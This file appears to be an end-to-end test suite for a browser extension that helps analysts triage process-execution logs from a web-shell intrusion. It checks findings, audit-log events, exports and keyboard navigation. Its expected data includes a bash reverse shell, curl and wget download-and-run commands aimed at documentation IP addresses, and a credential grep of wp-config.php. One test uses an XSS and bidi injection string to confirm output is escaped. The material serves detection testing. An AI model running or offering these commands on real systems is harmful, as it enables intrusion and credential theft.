/** The analyst's way through the built extension: sample, finding, events, steps, near misses, query, export. */
import { readFile } from 'node:fs/promises'
import { beforeEach, describe, expect, test } from 'vitest'
import { dropFiles } from '../helpers/drop-files.ts'
import { eachOnItsOwnPage, page } from '../helpers/own-page.ts'

eachOnItsOwnPage()

const openSample = async (id: string) => {
  await page.locator(`[data-sample=${id}]`).click()
  await page.locator('[data-finding]').first().waitFor()
}
const commands = () => page.locator('[data-finding] code').allInnerTexts()

const WEB_SHELL_COMMANDS = [
  'bash -c bash -i >& /dev/tcp/203.0.113.77/4444 0>&1',
  'sh -c cat /var/www/shop/wp-config.php | grep DB_',
  'sh -c curl -fsSL http://203.0.113.77/a.sh -o /tmp/.cache-x && bash /tmp/.cache-x',
  'sh -c echo aWQ7IGhvc3RuYW1lOyBscyAtbGEgL2hvbWUvZGVwbG95Ly5zc2g= | base64 -d | sh',
  'sh -c find / -perm -4000 -type f 2>/dev/null',
  'sh -c id',
  'sh -c uname -a; cat /etc/os-release'
]

describe('samples', () => {
  test('the web shell: seven commands, routine ones hidden by their count', async () => {
    await openSample('web-shell')
    expect((await commands()).toSorted()).toEqual(WEB_SHELL_COMMANDS)
    await expect
      .poll(() => page.locator('[data-finding] .bar').first().getAttribute('aria-label'))
      .toMatch(/^Rarity \d+\.\d bits: \d of \d+ loaded events$/)
  })

  test('the same web shell in audit.log: the same commands, each event with the lines it was written in', async () => {
    await openSample('web-shell-audit')
    expect((await commands()).toSorted()).toEqual(WEB_SHELL_COMMANDS)
    await page.locator('[data-finding]', { hasText: 'uname -a' }).click()
    const pane = page.locator('[data-pane=finding]')
    await expect
      .poll(() => pane.innerText())
      .toMatch(/php-fpm8\.2 ran sh in \/var\/www\/shop\/wp-content\/uploads\/2026\/03 as www-data on web-03/)
    await expect.poll(() => pane.innerText()).toMatch(/matched by/i)
    await page.keyboard.press('e')
    const event = page.locator('[data-event]').first()
    await event.locator('.raw summary').click()
    const lines = event.locator('[data-line]')
    expect(await lines.count()).toBe(5)
    const shown = await lines.allInnerTexts()
    expect(shown.map((text) => /type=(\w+)/.exec(text)?.[1])).toEqual(['SYSCALL', 'EXECVE', 'CWD', 'PATH', 'PROCTITLE'])
    const numbers = await lines.evaluateAll((all) => all.map((one) => Number(one.getAttribute('data-line'))))
    // The child's records stand between those of the shell.
    expect(numbers.at(-1)! - numbers[0]!).toBeGreaterThan(4)
    expect(await event.innerText()).toContain('fork>exec')
  })

  test('the quiet day: two rare routine commands', async () => {
    await openSample('quiet-day')
    expect((await commands()).toSorted()).toEqual([
      'sh -c git -C /var/www/intranet rev-parse --short HEAD',
      'sh -c pdftotext -layout invoice-20733.pdf -'
    ])
  })

  test('many hosts: the loop is left out, near misses say what else there was', async () => {
    await openSample('many-hosts')
    expect((await commands()).toSorted()).toEqual(['sh -c wget -q http://198.51.100.9/k -O /dev/shm/.k', 'sh -c whoami'])
    await page.keyboard.press('n')
    await page.locator('[data-near]').click()
    await page.locator('[data-near-group]').first().waitFor()
    const groups = await page.locator('[data-near-group] summary').allInnerTexts()
    expect(groups.some((text) => text.includes('process.working_directory'))).toBe(true)
    expect(groups.some((text) => text.includes('process.command_line'))).toBe(true)
  })
})

test('what was unfolded for one finding is folded for the next', async () => {
  const long = (letter: string) => letter.repeat(2000)
  const event = (letter: string) =>
    JSON.stringify({
      '@timestamp': '2026-03-02T10:00:00Z',
      labels: { long: long(letter) },
      process: { command_line: long(letter) }
    })
  await dropFiles(page, [{ name: 'long.ndjson', text: [event('a'), event('b')].join('\n') }])
  await page.locator('[data-pane=list] .state h2').waitFor()
  await dropFiles(page, [
    { name: 'long.esql', text: 'FROM logs-* | STATS n = COUNT(*) BY labels.long, process.command_line | SORT labels.long' }
  ])
  const fold = page.locator('[data-pane=finding] .what button', { hasText: /^Show all/ })
  await page.locator('[data-finding]').first().click()
  await expect.poll(() => fold.count()).toBeGreaterThan(1)
  const folded = await fold.count()
  while ((await fold.count()) > 0) await fold.first().click()
  await page.locator('[data-finding]').nth(1).click()
  await expect.poll(() => fold.count()).toBe(folded)
})

describe('a finding', () => {
  beforeEach(() => openSample('web-shell'))

  const openFinding = async (command: string) => {
    await page.locator('[data-finding]', { hasText: command }).click()
    await page.locator('[data-pane=finding] code').first().waitFor()
  }

  test('tells what ran, why, how rare and when', async () => {
    await openFinding('sh -c uname -a')
    const pane = page.locator('[data-pane=finding]')
    await expect.poll(() => pane.innerText()).toMatch(/matched by/i)
    const text = await pane.innerText()
    expect(text).toMatch(/php-fpm8\.2 ran (dash|sh) in \/var\/www\/shop\/wp-content\/uploads\/2026\/03 as www-data on web-03/)
    expect(text).toContain('1 of fewer than 5')
    expect(text).toContain('02 Mar 2026, 14:02:13 UTC')
    await pane.locator('svg[role=img]').waitFor()
  })

  test('shows its source event from the bytes of the file', async () => {
    await openFinding('sh -c id')
    await page.keyboard.press('s')
    const event = page.locator('[data-event]').first()
    await event.waitFor()
    expect(await event.locator('tbody tr', { hasText: 'process.entity_id' }).count()).toBeGreaterThan(0)
    await page.locator('[data-pane=evidence] [data-filter]').fill('working_directory')
    expect(await event.locator('tbody tr').count()).toBe(2)
  })

  test('runs a step and keeps mark and note', async () => {
    await openFinding('sh -c id')
    await page.keyboard.press('g')
    await page.locator('[data-step]').first().waitFor()
    expect(await page.locator('[data-step]').count()).toBeGreaterThanOrEqual(14)
    const closed = page.locator('[data-step]:not([open]) > summary')
    while ((await closed.count()) > 0) await closed.first().click()
    for (const run of await page.locator('[data-run]').all()) await run.click()
    await expect.poll(() => page.locator('[data-step] [aria-rowcount]').count()).toBeGreaterThan(3)
    expect(await page.locator('[data-step] [role=alert]').allInnerTexts()).toEqual([])
    const first = page.locator('[data-step]').first()
    await first.locator('input[type=checkbox]').check()
    await first.locator('textarea[placeholder=Note]').fill('seen, see ticket')
    await page.keyboard.press('Escape')
    const [download] = await Promise.all([page.waitForEvent('download'), exportAs('markdown')])
    expect(await readFile((await download.path())!, 'utf8')).toContain('seen, see ticket')
  })

  const exportAs = async (format: string) => {
    await page.locator('[data-export]').click()
    await page.locator(`[data-export-format=${format}]`).click()
  }

  test('exports JSON, CSV and Markdown', async () => {
    const texts = new Map<string, string>()
    for (const format of ['json', 'csv', 'markdown']) {
      const [download] = await Promise.all([page.waitForEvent('download'), exportAs(format)])
      texts.set(format, await readFile((await download.path())!, 'utf8'))
    }
    expect(JSON.parse(texts.get('json')!).findings).toHaveLength(7)
    expect(texts.get('csv')!.trimEnd().split('\r\n')).toHaveLength(8)
    expect(texts.get('markdown')).toContain('```text\nsh -c id\n```')
  })
})

describe('files', () => {
  const drop = (name: string, text: string) => dropFiles(page, [{ name, text }])
  const event = (command: string, more: object = {}) =>
    JSON.stringify({
      '@timestamp': '2026-03-02T10:00:00Z',
      agent: { id: 'a1' },
      event: { type: ['start'], action: 'exec' },
      host: { name: 'web-9', os: { type: 'linux' } },
      process: {
        name: 'sh',
        command_line: command,
        working_directory: '/srv',
        parent: { name: 'nginx', executable: '/usr/sbin/nginx' }
      },
      user: { name: 'www-data', id: '33' },
      ...more
    })

  test('dropped anywhere; a broken line costs only itself and is listed', async () => {
    await drop('a.ndjson', `${event('sh -c id')}\n{"broken\n${event('sh -c whoami')}\n`)
    await page.locator('[data-finding]').nth(1).waitFor()
    expect((await commands()).toSorted()).toEqual(['sh -c id', 'sh -c whoami'])
    await page.locator('[data-summary] > summary').click()
    expect(await page.locator('[data-summary] tbody tr').count()).toBe(1)
  })

  test('chosen with the picker', async () => {
    await page
      .locator('[data-picker]')
      .setInputFiles({ name: 'b.ndjson', mimeType: '', buffer: Buffer.from(event('sh -c picked')) })
    await page.locator('[data-finding]').first().waitFor()
    expect(await commands()).toEqual(['sh -c picked'])
  })

  test('pasted into the window and into the dialog', async () => {
    await page.evaluate((text) => {
      const clipboardData = new DataTransfer()
      clipboardData.setData('text/plain', text)
      document.body.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }))
    }, event('sh -c pasted'))
    await page.locator('[data-finding]').first().waitFor()
    await page.getByRole('button', { name: 'Paste', exact: true }).click()
    await page.locator('dialog textarea').fill(event('sh -c typed'))
    await page.getByRole('button', { name: 'Read it' }).click()
    await expect.poll(async () => (await commands()).toSorted()).toEqual(['sh -c pasted', 'sh -c typed'])
  })

  test('hostile values stay text: markup, bidi, escapes, formula', async () => {
    const hostile = 'sh -c \u202egnp.exe \u200b\ta\nb <img src=x onerror=alert(1)> \u001b[31m =1+1'
    await drop('h.ndjson', event(hostile))
    await page.locator('[data-finding]').first().waitFor()
    const chips = page.locator('[data-finding] .chip')
    const names = await chips.evaluateAll((found) => found.map((chip) => getComputedStyle(chip, '::before').content))
    expect(names).toEqual(expect.arrayContaining(['"RLO"', '"ESC[31m"']))
    expect(await page.locator('[data-finding] code').first().textContent()).toBe(hostile)
    // What is selected and copied is the value itself; the names of the chips are no part of it.
    const selected = await page
      .locator('[data-finding] code')
      .first()
      .evaluate((code) => {
        getSelection()!.selectAllChildren(code)
        return getSelection()!.toString()
      })
    expect(selected).toBe(hostile)
    expect(await page.locator('main img[src]').count()).toBe(0)
  })

  test('an empty file and a binary file say what they are', async () => {
    await drop('empty.ndjson', '')
    await page.getByRole('alert').first().waitFor()
    expect(await page.getByRole('alert').first().innerText()).toMatch(/empty\.ndjson.*the file is empty/s)
    await page.getByRole('button', { name: 'Start over' }).click()
    await drop('bin.dat', '\u0000\u0001\u0002PK\u0003zz'.repeat(500))
    await page.getByRole('alert').first().waitFor()
    expect(await page.getByRole('alert').first().innerText()).toMatch(/bin\.dat.*not an event log/s)
  })

  test('a rule with an error says where; a rule beside data is chosen and run', async () => {
    await drop('a.ndjson', event('sh -c id'))
    await page.locator('[data-finding]').first().waitFor()
    await drop('mine.esql', 'FROM * | WHERE process.command_line LIKE "*id*" | KEEP process.command_line, host.name')
    await expect.poll(() => page.locator('[data-rule] option:checked').innerText()).toContain('mine')
    await page.locator('[data-finding]').first().waitFor()
    await drop('broken.esql', 'FROM * | WHERE process.name == ')
    await page.getByRole('alert').first().waitFor()
    expect(await page.getByRole('alert').first().innerText()).toMatch(/line 1:\d+/)
  })
})

describe('query', () => {
  test('runs with rows, refuses with a place', async () => {
    await openSample('web-shell')
    await page.keyboard.press('q')
    const box = page.locator('[data-editor] .cm-content')
    await box.fill('FROM * | STATS n = COUNT(*) BY host.name')
    await box.press('Control+Enter')
    await expect.poll(() => page.locator('[data-row="0"]').innerText()).toMatch(/124\s+web-03/)
    await box.fill('FROM * | WHERE host.nam == "x" AND (')
    await box.press('Control+Enter')
    await page.locator('[data-pane=query] [role=alert]').waitFor()
    expect(await page.locator('[data-pane=query] [role=alert]').innerText()).toMatch(/line 1:\d+/)
  })
})

describe('keyboard', () => {
  test('j, Enter, s, Esc, /, ? reach everything without a mouse', async () => {
    await openSample('web-shell')
    await page.keyboard.press('j')
    await page.keyboard.press('j')
    expect(await page.locator('[data-finding]').nth(1).getAttribute('aria-current')).toBe('true')
    await page.keyboard.press('Enter')
    await expect
      .poll(() => page.evaluate(() => document.activeElement?.closest('[data-pane]')?.getAttribute('data-pane')))
      .toBe('finding')
    await page.keyboard.press('s')
    await expect.poll(() => page.evaluate(() => document.activeElement?.id)).toBe('tab-events')
    await page.keyboard.press('Escape')
    await page.keyboard.press('Escape')
    await expect.poll(() => page.evaluate(() => document.activeElement?.matches('[data-finding][aria-current=true]'))).toBe(true)
    await page.keyboard.press('k')
    expect(await page.locator('[data-finding]').nth(0).getAttribute('aria-current')).toBe('true')
    await page.keyboard.press('/')
    await page.keyboard.type('wget|curl')
    expect(await page.locator('[data-finding]').count()).toBe(0)
    await page.keyboard.press('Escape')
    await page.keyboard.press('?')
    await page.locator('dialog[open]').waitFor()
    await page.keyboard.press('Escape')
    await expect.poll(() => page.locator('dialog').count()).toBe(0)
  })
})

describe('long files', () => {
  test('progress is shown and cancel takes effect within 100 ms', async () => {
    const line = JSON.stringify({
      '@timestamp': '2026-03-02T10:00:00Z',
      event: { action: 'exec', type: 'start' },
      process: { name: 'sh', command_line: 'sh -c x'.padEnd(400, 'y') },
      host: { os: { type: 'linux' } }
    })
    await page.evaluate((text) => {
      const block = new Blob([`${text}\n`.repeat(20_000)])
      const file = new File(
        Array.from({ length: 80 }, () => block),
        'long.ndjson'
      )
      const transfer = new DataTransfer()
      transfer.items.add(file)
      document.body.dispatchEvent(new DragEvent('drop', { dataTransfer: transfer, bubbles: true, cancelable: true }))
    }, line)
    await page.getByRole('progressbar').waitFor()
    await expect.poll(() => page.locator('.progress').innerText(), { timeout: 20_000 }).toMatch(/of \d+ MB[\s\S]*events\/s/)
    const millis = await page.evaluate(
      () =>
        new Promise<number>((resolve) => {
          const began = performance.now()
          new MutationObserver((_, observer) => {
            if (document.querySelector('[role=progressbar]')) return
            observer.disconnect()
            resolve(performance.now() - began)
          }).observe(document.body, { childList: true, subtree: true })
          document.body.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true }))
        })
    )
    console.log(`cancel took effect after ${Math.round(millis)} ms`)
    // The bound of 100 ms is the bench's to check on a quiet machine; here a busy one must not take seconds.
    expect(millis).toBeLessThan(1000)
    await expect.poll(() => page.locator('main').innerText()).toContain('Stopped')
  })
})
